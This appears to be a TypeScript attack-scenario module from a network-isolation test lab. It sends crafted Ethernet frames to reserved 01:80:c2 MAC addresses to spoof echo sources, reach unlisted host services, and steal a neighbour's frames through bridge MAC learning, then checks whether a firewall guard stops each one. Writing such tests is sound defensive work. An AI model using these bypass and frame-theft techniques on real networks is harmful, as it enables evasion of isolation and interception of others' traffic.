import { HOST } from '../topology.ts'
import type { Attack } from './attack.ts'
import { describeFrames } from './describe.ts'
import { frame, RESERVED_MACS } from './frame.ts'
import { datagram, echo } from './packet.ts'
import type { Scene } from './scene.ts'

const FAR = { 4: '203.0.113.66', 6: '2001:db8:f::66' } as const
const UPLINK = { 4: HOST.address, 6: HOST.address6 } as const
const SERVICE = 9999

/**
 * A bridge hands frames to a reserved address to the IP stack as frames of the port, so no rule that names the bridge sees them. The
 * host answers the echo request to its forged source, which is the far end, and the answer carries the payload.
 */
const echoes = (family: 4 | 6): Attack => ({
  name: `reserved-echo${family}`,
  seat: 'container',
  words: `IPv${family} echo requests in the name of the far end, in frames to 01:80:c2:00:00:00 to 0f`,
  shows: 'the host answers the far end, with the payload',
  ...(family === 4 ? { quick: true } : {}),
  async play(scene: Scene) {
    const place = await scene.network('reserved')
    const attacker = await scene.attacker('reserved', place)
    await scene.guard()
    const far = await scene.farEnd()
    const frames = RESERVED_MACS.flatMap((dst) =>
      [attacker.gateway(family), UPLINK[family]].map((host) =>
        frame(attacker.ethernet({ dst }), echo({ src: FAR[family], dst: host }, scene.secret)),
      ),
    )
    const sent = await attacker.send(frames)
    const { count, first } = await far.count()
    return { sent, arrived: count, details: describeFrames(first) }
  },
})

const service: Attack = {
  name: 'reserved-service',
  seat: 'container',
  words: 'UDP to a service of the host, in frames to 01:80:c2:00:00:00 to 0f',
  shows: 'a service that hostServices does not list gets it',
  quick: true,
  async play(scene) {
    const place = await scene.network('reserved')
    const attacker = await scene.attacker('reserved', place)
    await scene.guard()
    const listener = await scene.hostService(SERVICE)
    const frames = RESERVED_MACS.flatMap((dst) =>
      ([4, 6] as const).flatMap((family) =>
        [attacker.gateway(family), UPLINK[family]].map((host) =>
          frame(
            attacker.ethernet({ dst }),
            datagram({ src: attacker.own(family), dst: host }, 4000, SERVICE, scene.secret),
          ),
        ),
      ),
    )
    const sent = await attacker.send(frames)
    return { sent, arrived: (await listener.count()).count }
  },
}

/** The bridge learns the source of such a frame too, and sends what is a neighbour's to whoever wrote it last. */
const theft: Attack = {
  name: 'reserved-theft',
  seat: 'container',
  words: 'frames to 01:80:c2:00:00:00 to 0f from a neighbour’s hardware address',
  shows: 'the attacker gets the neighbour’s frames',
  quick: true,
  async play(scene) {
    const place = await scene.network('reserved')
    const attacker = await scene.attacker('reserved', place)
    const neighbour = await scene.attacker('reserved', place)
    await scene.guard()
    const heard = await scene.heardBy(attacker)
    // Resolved before, so that the host's echo goes to the neighbour's hardware address at once.
    await scene.lab.host([
      'ip',
      'neigh',
      'replace',
      neighbour.address,
      'lladdr',
      neighbour.mac,
      'dev',
      place.bridge,
      'nud',
      'permanent',
    ])
    const pattern = scene.secret.toString('hex')
    let sent = 0
    for (const dst of scene.quick ? RESERVED_MACS.slice(12) : RESERVED_MACS) {
      const stolen = frame(
        { src: neighbour.mac, dst },
        echo({ src: neighbour.address, dst: place.gateway }, Buffer.alloc(8)),
      )
      sent += await attacker.send([stolen, stolen])
      await scene.lab.host(['perl', '-MSocket', '-e', SEND, neighbour.address, pattern])
    }
    const { count, first } = await heard.count()
    return { sent, arrived: count, details: describeFrames(first) }
  },
}

/** A datagram of the host to an address, with a payload in hex. */
const SEND = `
socket my $socket, PF_INET, SOCK_DGRAM, 0 or die;
send $socket, pack('H*', $ARGV[1]), 0, pack_sockaddr_in(9, inet_aton($ARGV[0])) or die;
`

export const RESERVED: readonly Attack[] = [echoes(4), echoes(6), service, theft]
